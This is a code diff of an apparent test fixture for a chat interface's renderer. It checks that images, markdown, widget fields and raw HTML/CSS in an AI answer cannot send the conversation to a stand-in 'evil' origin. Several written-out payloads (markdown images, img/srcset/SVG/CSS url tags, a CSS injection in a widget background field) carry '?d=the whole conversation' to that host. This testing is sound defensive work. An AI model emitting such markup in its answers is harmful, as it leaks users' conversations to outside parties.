@@ -5,23 +5,13 @@
 //   IMAGES_ALLOWED_ORIGIN  listed in the server's --image-origins
 //   IMAGES_SELF_ORIGIN     the frame's own origin
 // Each URL's path names its channel, so the spec can tell which one leaked.
+import { exfiltration } from './payloads.mjs'
+
 const EVIL = process.env.IMAGES_EVIL_ORIGIN
 const OK = process.env.IMAGES_ALLOWED_ORIGIN
 const SELF = process.env.IMAGES_SELF_ORIGIN
 const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='
 const LEAK = '?d=the%20whole%20conversation'
-
-/** Raw HTML and CSS an answer might try (the renderer shows them as text). */
-const html = (e) => [
-  `<img src="${e}/html-img.png${LEAK}">`,
-  `<img srcset="${e}/srcset.png${LEAK} 1x, ${e}/srcset2.png${LEAK} 2x">`,
-  `<picture><source srcset="${e}/picture.png${LEAK}"><img src="${e}/picture-img.png${LEAK}"></picture>`,
-  `<link rel="prefetch" href="${e}/prefetch${LEAK}"><link rel="preload" as="image" href="${e}/preload.png${LEAK}">`,
-  `<link rel="icon" href="${e}/favicon.ico${LEAK}">`,
-  `<svg><image href="${e}/svg-image.png${LEAK}"/></svg>`,
-  `<div style="background-image:url(${e}/css-inline.png${LEAK})">css</div>`,
-  `<style>@import url(${e}/css-import.css${LEAK}); body{background:url(${e}/css-sheet.png${LEAK})}</style>`,
-]
 
 if (!EVIL || !OK || !SELF) throw new Error('images.mjs needs IMAGES_EVIL_ORIGIN, IMAGES_ALLOWED_ORIGIN and IMAGES_SELF_ORIGIN')
 
@@ -49,7 +39,9 @@ export default {
       text:
         `Markdown: ![leak-md](${EVIL}/md.png${LEAK}) and ![ok-md](${OK}/md-ok.png) and ![own-md](${SELF}/chatkit/own-md.png) and ![data-md](${PNG})\n\n` +
         `Reference: ![leak-ref][ref]\n\n[ref]: ${EVIL}/md-ref.png${LEAK}\n\n` +
-        html(EVIL).join('\n\n') +
+        // The XSS suite's https: exfiltration list: raw <img>, srcset, <picture>, link prefetch/
+        // preload/icon, SVG <image>, CSS url()/@import, KaTeX \includegraphics (shown as text).
+        exfiltration(EVIL).join('\n\n') +
         '\n\n',
     }
     yield {
@@ -62,7 +54,7 @@ export default {
           { type: 'Image', src: `${EVIL}/widget.png${LEAK}`, alt: 'leak-widget' },
           { type: 'Image', src: `${OK}/widget-ok.png`, alt: 'ok-widget' },
           { type: 'Box', background: `red;background-image:url(${EVIL}/widget-box.png${LEAK})`, children: [{ type: 'Text', value: 'box' }] },
-          { type: 'Markdown', value: `![leak-widget-md](${EVIL}/widget-md.png${LEAK}) ${html(EVIL)[1]}` },
+          { type: 'Markdown', value: `![leak-widget-md](${EVIL}/widget-md.png${LEAK}) ${exfiltration(EVIL).find((p) => p.includes('srcset='))}` },
         ],
       },
     }
